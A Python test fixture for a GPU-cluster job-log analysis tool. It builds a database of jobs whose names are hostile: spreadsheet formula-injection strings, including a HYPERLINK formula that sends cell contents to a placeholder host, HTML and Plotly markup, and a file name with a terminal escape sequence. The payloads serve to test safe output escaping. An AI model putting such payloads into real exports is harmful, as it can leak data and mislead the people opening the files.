"""A store whose names are hostile (issue #26, item 6): job ids, users and VCs that a
spreadsheet runs as formulas or Plotly renders as markup, and a file name with a terminal
escape sequence, a tab and a newline. tests/test_safe_output.py and the browser test use it.
"""

from __future__ import annotations

import json
from pathlib import Path

from gpucluster_analysis.db import open_store
from gpucluster_analysis.ingest import IngestOptions, ingest_paths

# Each starts a cell a spreadsheet would run (OWASP's = + - @ tab CR LF), or is Plotly markup.
VCS = ('=HYPERLINK("http://x.example/?"&A1,"vc")', '<a href="http://x.example">v</a>', "<b>x</b>%{y}", "-2+3;=1+1")
USERS = ("@SUM(1+1)", "+1-1", "\t=1+1", "\r=2", "\n=3", "-3.5")
JOB_ID_STARTS = ("=1+1", "-5", "@j", "+j")
MACHINES = ("m1", "=m2", "@m3")
JOBS = 24
# A job log named with an escape sequence, a tab and a newline, holding a job and a bad row (a reject).
HOSTILE_FILE = "cluster_job_log\x1b[31m\tred\nline"
HOSTILE_FILE_PRINTED = "cluster_job_log\\x1b[31m\\tred\\nline"


def jobs() -> list[dict[str, object]]:
    """Philly jobs cycling through the hostile names: 8 passed, 8 failed (each retried once), 8 killed."""
    out = []
    for i in range(JOBS):
        day, hour = 3 + i // 12, i % 12
        status = ("Pass", "Failed", "Killed")[i % 3]
        gpus = [f"gpu{i % 4}", f"gpu{(i + 1) % 4}"]
        attempts = [
            {
                "start_time": f"2017-11-0{day} {hour + 1:02d}:10:00",
                "end_time": f"2017-11-0{day} {hour + 3:02d}:00:00",
                "detail": [{"ip": MACHINES[i % 3], "gpus": gpus}],
            }
        ]
        if status == "Failed":
            attempts.insert(
                0,
                {
                    "start_time": f"2017-11-0{day} {hour:02d}:40:00",
                    "end_time": f"2017-11-0{day} {hour + 1:02d}:00:00",
                    "detail": [{"ip": MACHINES[i % 3], "gpus": ["gpu0"]}],
                },
            )
        out.append(
            {
                "status": status,
                "vc": VCS[i % len(VCS)],
                "jobid": f"{JOB_ID_STARTS[i % len(JOB_ID_STARTS)]}_{i}",
                "attempts": attempts,
                "submitted_time": f"2017-11-0{day} {hour:02d}:05:00",
                "user": USERS[i % len(USERS)],
            }
        )
    return out


def write_inputs(root: Path) -> tuple[Path, Path]:
    """The hostile job log, and the hostile-named one with a job and a bad row; their paths."""
    root.mkdir(parents=True, exist_ok=True)
    log = root / "cluster_job_log"
    log.write_text(json.dumps(jobs(), indent=1))
    rows = [
        {
            "status": "Pass",
            "vc": "plain_vc",
            "jobid": f"plain_job{k}",
            "submitted_time": "2017-11-03 00:00:00",
            "user": "plain_user",
            "attempts": [
                {
                    "start_time": "2017-11-03 01:00:00",
                    "end_time": "2017-11-03 02:00:00",
                    "detail": [{"ip": "m1", "gpus": [gpu]}],
                }
            ],
        }
        for k, gpu in enumerate(("gpu0", "gpuX"))
    ]  # gpuX: no GPU name, the row is rejected
    hostile = root / HOSTILE_FILE
    hostile.write_text(json.dumps(rows))
    return log, hostile


def write_logs(root: Path) -> Path:
    """Each failed job's first attempt's stderr (a CUDA out of memory), in gca synth's layout."""
    logs = root / "logs"
    for job in jobs():
        if job["status"] == "Failed":
            path = logs / str(job["jobid"]) / "attempt_0" / "stderr.log"
            path.parent.mkdir(parents=True)
            path.write_text(
                "Traceback (most recent call last):\nRuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n"
            )
    return logs


def build_store(root: Path) -> Path:
    """A store of write_inputs(root)'s two files and write_logs(root)'s job logs."""
    db = root / "hostile.duckdb"
    with open_store(db) as con:
        reports = ingest_paths(con, list(write_inputs(root)), IngestOptions(), format_name="philly_job_log")
        assert [(r.status, r.rows, r.rejects) for r in reports] == [("loaded", JOBS, 0), ("loaded", 1, 1)], reports
        logs = ingest_paths(con, [write_logs(root)], IngestOptions())
        assert [r.status for r in logs] == ["loaded"] * (JOBS // 3), logs
    return db
